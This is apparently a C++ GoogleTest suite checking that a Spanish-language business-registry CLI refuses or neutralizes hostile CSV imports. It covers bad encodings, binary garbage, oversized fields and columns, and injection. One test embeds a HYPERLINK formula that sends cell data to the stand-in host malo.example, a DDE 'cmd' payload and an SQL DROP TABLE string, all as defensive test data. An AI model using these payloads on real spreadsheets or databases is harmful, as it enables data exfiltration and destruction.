// Hostile files through `import`: wrong encoding, binary garbage, a 10 MB field, a million
// columns, formula injection and SQL in fields. Each gets a clear Spanish refusal with nothing
// written, or is stored as plain text and exported neutralized for spreadsheets.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <random>

#include "cli/cli_support.hpp"

namespace cdmype::clitest {
namespace {

using ::testing::HasSubstr;

constexpr const char* kHeader =
    "nombre;titular_nombre;titular_sexo;sector;distrito;zona;fecha_ingreso;asesor;fuente\n";

class CliHostileInput : public ::testing::Test {
 protected:
  void SetUp() override {
    cli.restore("hostil", [](const Cli& fresh) {
      ASSERT_EQ(fresh.init().status, 0);
      ASSERT_EQ(fresh.add_user("ana", "director", "Ana Peña").status, 0);
    });
  }
  RunResult import_bytes(const std::string& name, const std::string& bytes) {
    write_text(cli.path(name), bytes);
    return cli.as("ana", kUserPassword, {"import", "empresas", cli.path(name).string()});
  }
  // Nothing was imported: the export has its header only.
  void expect_nothing_imported() {
    RunResult r = cli.as("ana", kUserPassword, {"export", "empresas", cli.path("x.csv").string()});
    ASSERT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(csv_record_count(read_text(cli.path("x.csv"))), 0);
  }
  Cli cli;
};

TEST_F(CliHostileInput, ABytePastWindows1252IsRefusedWithAdvice) {
  // Latin-1 / Windows-1252 text imports now (cli_excel_files_test); 0x9D is
  // undefined there and in UTF-8, so this file can only be a damaged one.
  RunResult r = import_bytes("roto.csv", std::string(kHeader) +
                                             "Caf\xE9 Cital\xE1;Rosa Pe\xF1"
                                             "a\x9D;mujer;turismo;"
                                             "Cital\xE1;rural;2026-01-05;ana;cdmype\n");
  EXPECT_EQ(r.status, 1);
  EXPECT_THAT(r.err, HasSubstr("el byte 0x9D no es texto ni en UTF-8 ni en Windows-1252"));
  EXPECT_THAT(r.err, HasSubstr("línea 2"));
  EXPECT_THAT(r.err, HasSubstr("CSV UTF-8"));
  expect_nothing_imported();
}

TEST_F(CliHostileInput, BinaryGarbageIsRefused) {
  std::mt19937 random(7);
  std::string garbage(64 * 1024, '\0');
  for (auto& c : garbage) c = static_cast<char>(random() & 0xFF);
  RunResult r = import_bytes("basura.csv", garbage);
  EXPECT_EQ(r.status, 1);
  EXPECT_THAT(r.err, HasSubstr("UTF-8"));
  // Valid UTF-8 with control characters (a binary that happens to decode).
  RunResult ctrl = import_bytes("control.csv", std::string(kHeader) + "a\x01\x02\x03;b\n");
  EXPECT_EQ(ctrl.status, 1);
  EXPECT_THAT(ctrl.err, HasSubstr("caracteres de control"));
  expect_nothing_imported();
}

TEST_F(CliHostileInput, TenMegabyteFieldIsRefused) {
  RunResult r =
      import_bytes("campo.csv", std::string(kHeader) + "\"" + std::string(10 * 1024 * 1024, 'x') +
                                    "\";Rosa;mujer;turismo;Citalá;rural;2026-01-05;ana;cdmype\n");
  EXPECT_EQ(r.status, 1);
  EXPECT_THAT(r.err, HasSubstr("un campo tiene más de"));
  expect_nothing_imported();
}

TEST_F(CliHostileInput, AMillionColumnsIsRefused) {
  std::string line;
  line.reserve(2'000'000);
  for (int i = 0; i < 1'000'000; ++i) line += i ? ";c" : "nombre";
  RunResult r = import_bytes("columnas.csv", line + "\n" + line + "\n");
  EXPECT_EQ(r.status, 1);
  EXPECT_THAT(r.err, HasSubstr("columnas; no parece un archivo de intercambio"));
  expect_nothing_imported();
}

TEST_F(CliHostileInput, FormulasAndSqlAreStoredAsTextAndExportedNeutralized) {
  const std::string sql = "Robert'); DROP TABLE enterprise;--";
  RunResult r = import_bytes(
      "inyeccion.csv",
      std::string(kHeader) + "\"=HYPERLINK(\"\"http://malo.example/?\"\"&A1;\"\"Clic\"\")\";\"" +
          sql + "\";mujer;turismo;Citalá;rural;2026-01-05;ana;cdmype\n" +
          "@SUM(1+1);+cmd|' /C calc'!A0;hombre;turismo;Citalá;urbana;2026-01-06;ana;cdmype\n");
  ASSERT_EQ(r.status, 0) << r.err;

  RunResult out = cli.as("ana", kUserPassword, {"export", "empresas", cli.path("x.csv").string()});
  ASSERT_EQ(out.status, 0) << out.err;
  const std::string text = read_text(cli.path("x.csv"));
  EXPECT_EQ(csv_record_count(text), 2);
  // A spreadsheet shows these as text: each starts with an apostrophe.
  EXPECT_THAT(text, HasSubstr("\"'=HYPERLINK(\"\"http://malo.example/?\"\"&A1;\"\"Clic\"\")\""));
  EXPECT_THAT(text, HasSubstr("'@SUM(1+1)"));
  EXPECT_THAT(text, HasSubstr("'+cmd|' /C calc'!A0"));
  EXPECT_THAT(text, HasSubstr(sql));  // stored and given back as plain text; the table is fine
  EXPECT_EQ(cli.as("admin", kAdminPassword, {"check"}).status, 0);
}

}  // namespace
}  // namespace cdmype::clitest
